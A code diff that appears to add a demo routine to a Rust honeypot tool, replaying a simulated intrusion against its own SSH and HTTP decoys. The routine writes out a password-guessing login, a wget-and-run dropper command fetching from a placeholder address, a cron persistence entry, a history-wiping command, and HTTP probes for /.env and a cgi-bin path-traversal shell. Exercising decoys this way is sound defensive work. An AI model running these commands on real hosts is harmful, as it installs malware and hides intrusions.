@@ -420,3 +420,57 @@ async fn sessions(addr: SocketAddr, pid: u32, o: &Options) -> Result<()> {
     drop(held);
     Ok(())
 }
+
+/// What `tripline demo` does to the honeypots: on the SSH decoy at `ssh`, a wrong password
+/// then `root`/`password` (what the demo accepts), and a dropper's commands run one `exec` at
+/// a time; on the HTTP decoy at `http`, a scanner's probe and an exploit. The fetches asked
+/// for are recorded, never made.
+pub fn demo_attack(ssh: SocketAddr, http: SocketAddr) -> Result<()> {
+    use std::io::{Read, Write};
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()?;
+    rt.block_on(async {
+        let cfg = client_config();
+        let mut h = connect(cfg.clone(), None, ssh).await?;
+        anyhow::ensure!(
+            !h.authenticate_password("admin", "admin").await?.success(),
+            "a wrong password got in"
+        );
+        anyhow::ensure!(
+            h.authenticate_password("root", "password").await?.success(),
+            "the demo's password was refused"
+        );
+        for cmd in [
+            "uname -a; cat /proc/cpuinfo | grep name | head -1",
+            "cd /tmp && wget -q http://198.51.100.23/bins/x86 -O .x && chmod +x .x && ./.x",
+            "(crontab -l; echo '*/5 * * * * /tmp/.x') | crontab -",
+            "unset HISTFILE; history -c",
+        ] {
+            let mut ch = h.channel_open_session().await?;
+            ch.exec(true, cmd).await?;
+            // until the command's channel closes
+            while tokio::time::timeout(Duration::from_secs(5), ch.wait())
+                .await
+                .ok()
+                .flatten()
+                .is_some()
+            {}
+        }
+        let _ = h
+            .disconnect(russh::Disconnect::ByApplication, "", "en")
+            .await;
+        Ok::<_, anyhow::Error>(())
+    })?;
+    for target in ["/.env", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"] {
+        let mut s = std::net::TcpStream::connect(http)?;
+        s.set_read_timeout(Some(Duration::from_secs(5)))?;
+        write!(
+            s,
+            "GET {target} HTTP/1.1\r\nHost: {http}\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nConnection: close\r\n\r\n"
+        )?;
+        let mut reply = vec![];
+        let _ = s.read_to_end(&mut reply);
+    }
+    Ok(())
+}
